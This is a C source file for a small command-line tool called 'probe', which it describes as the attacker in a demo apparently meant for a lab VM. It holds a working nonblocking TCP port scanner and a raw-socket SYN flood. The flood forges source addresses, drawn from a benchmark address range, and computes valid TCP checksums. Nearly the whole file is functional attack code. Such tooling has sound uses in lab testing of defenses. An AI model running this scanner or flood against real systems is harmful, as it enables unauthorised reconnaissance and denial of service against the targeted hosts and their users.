// SPDX-License-Identifier: GPL-2.0
/*
 * The demo's attacker, small enough for a guest of 32 MB.
 *
 *	probe scan ADDR LO HI		TCP connect() to each port
 *	probe flood ADDR PORT COUNT	SYNs from forged sources, IPv4
 *
 * "scan" prints "open N refused N silent N" and the open ports on a second
 * line; "flood" prints how many left.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* So many at once: below the usual limit of 1024 descriptors. */
#define BATCH 512
/* A host next door answers within a millisecond. */
#define PATIENCE_MS 300

static int usage(void)
{
	fprintf(stderr, "usage: probe scan ADDR LO HI | flood ADDR PORT COUNT\n");
	return 2;
}

static struct addrinfo *resolve(const char *addr)
{
	struct addrinfo hints = {
		.ai_flags = AI_NUMERICHOST, .ai_socktype = SOCK_STREAM,
	};
	struct addrinfo *ai;
	int ret = getaddrinfo(addr, NULL, &hints, &ai);

	if (ret) {
		fprintf(stderr, "probe: %s: %s\n", addr, gai_strerror(ret));
		exit(2);
	}
	return ai;
}

static void set_port(struct addrinfo *ai, unsigned int port)
{
	if (ai->ai_family == AF_INET6)
		((struct sockaddr_in6 *)ai->ai_addr)->sin6_port = htons(port);
	else
		((struct sockaddr_in *)ai->ai_addr)->sin_port = htons(port);
}

static int scan(const char *addr, unsigned int lo, unsigned int hi)
{
	unsigned int open = 0, refused = 0, silent = 0, port;
	struct addrinfo *ai = resolve(addr);
	struct pollfd fds[BATCH];
	unsigned int ports[BATCH];
	char list[512] = "";

	for (port = lo; port <= hi;) {
		int i, n, waiting = 0;

		for (n = 0; n < BATCH && port <= hi; n++, port++) {
			int fd = socket(ai->ai_family,
					SOCK_STREAM | SOCK_NONBLOCK, 0);

			if (fd < 0) {
				perror("probe: socket");
				return 1;
			}
			set_port(ai, port);
			ports[n] = port;
			fds[n].fd = fd;
			fds[n].events = POLLOUT;
			connect(fd, ai->ai_addr, ai->ai_addrlen);
		}
		/* Until nobody has answered for a while. */
		for (i = 0; i < n; i++)
			fds[i].revents = 0;
		waiting = n;
		while (waiting && poll(fds, n, PATIENCE_MS) > 0) {
			for (i = 0; i < n; i++) {
				int err = 0;
				socklen_t len = sizeof(err);

				if (fds[i].fd < 0 || !fds[i].revents)
					continue;
				getsockopt(fds[i].fd, SOL_SOCKET, SO_ERROR, &err,
					   &len);
				if (!err) {
					open++;
					snprintf(list + strlen(list),
						 sizeof(list) - strlen(list),
						 " %u", ports[i]);
				} else if (err == ECONNREFUSED) {
					refused++;
				} else {
					silent++;
				}
				close(fds[i].fd);
				fds[i].fd = -1;
				waiting--;
			}
		}
		for (i = 0; i < n; i++) {
			if (fds[i].fd < 0)
				continue;
			silent++;
			close(fds[i].fd);
		}
	}
	printf("open %u refused %u silent %u\n%s\n", open, refused, silent,
	       *list ? list + 1 : "-");
	freeaddrinfo(ai);
	return 0;
}

static unsigned int sum16(const void *data, size_t len, unsigned int sum)
{
	const unsigned char *p = data;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

static int flood(const char *addr, unsigned int port, unsigned int count)
{
	struct addrinfo *ai = resolve(addr);
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} pkt;
	unsigned int sent = 0, i, sum;
	int fd;

	if (ai->ai_family != AF_INET)
		return usage();
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("probe: socket");
		return 1;
	}
	for (i = 0; i < count; i++) {
		memset(&pkt, 0, sizeof(pkt));
		pkt.ip.version = 4;
		pkt.ip.ihl = 5;
		pkt.ip.tot_len = htons(sizeof(pkt));
		pkt.ip.ttl = 64;
		pkt.ip.protocol = IPPROTO_TCP;
		/* 198.18.0.0/15 is for benchmarks (RFC 2544). */
		pkt.ip.saddr = htonl(0xc6120000 | (i * 2654435761u) >> 15);
		pkt.ip.daddr = ((struct sockaddr_in *)ai->ai_addr)->sin_addr.s_addr;
		pkt.tcp.source = htons(1024 + (i * 40503u) % 60000);
		pkt.tcp.dest = htons(port);
		pkt.tcp.seq = htonl(i * 2654435761u);
		pkt.tcp.doff = 5;
		pkt.tcp.syn = 1;
		pkt.tcp.window = htons(64240);
		sum = sum16(&pkt.ip.saddr, 8, IPPROTO_TCP + sizeof(pkt.tcp));
		sum = sum16(&pkt.tcp, sizeof(pkt.tcp), sum);
		while (sum >> 16)
			sum = (sum & 0xffff) + (sum >> 16);
		pkt.tcp.check = htons(~sum);
		set_port(ai, 0);
		if (sendto(fd, &pkt, sizeof(pkt), 0, ai->ai_addr,
			   ai->ai_addrlen) == sizeof(pkt))
			sent++;
	}
	close(fd);
	freeaddrinfo(ai);
	printf("%u\n", sent);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && !strcmp(argv[1], "scan"))
		return scan(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc == 5 && !strcmp(argv[1], "flood"))
		return flood(argv[2], atoi(argv[3]), atoi(argv[4]));
	return usage();
}
